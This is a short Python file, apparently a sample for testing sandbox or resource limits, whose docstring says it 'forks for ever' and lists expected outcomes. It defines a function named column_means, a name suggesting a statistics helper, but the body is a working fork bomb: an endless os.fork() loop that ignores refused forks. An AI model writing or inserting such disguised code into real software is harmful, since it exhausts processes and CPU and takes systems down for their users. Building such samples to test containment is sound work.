"""Forks for ever, and does not mind when it is refused.

Ends: timeout processes
Weakened: cpu exited
"""

import contextlib
import os


def column_means(X):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
